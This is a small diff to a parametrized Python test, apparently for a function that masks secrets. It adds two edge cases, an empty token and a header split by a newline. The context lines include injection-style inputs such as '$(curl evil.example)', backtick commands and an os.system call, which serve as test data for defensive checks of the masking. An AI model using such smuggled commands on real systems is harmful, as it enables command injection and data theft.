@@ -21,6 +21,8 @@ ACTS = ";|&<>(){}$`\n"
         (["--password=$(curl evil.example)"], ["--password=$(curl evil.example)"]),
         (["TOKEN='$(curl evil.example)'"], ["TOKEN=***$(curl evil.example)'"]),
         (["SECRET='x'\nimport os\nos.system('evil')"], ["SECRET=***\nimport os\nos.system('evil')"]),
+        (["TOKEN=\n"], ["TOKEN=\n"]),
+        (["Authorization:\nevil"], ["Authorization:\nevil"]),
         (["Authorization: Bearer `evil`"], ["Authorization: *** `evil`"]),
     ],
     ids=str,
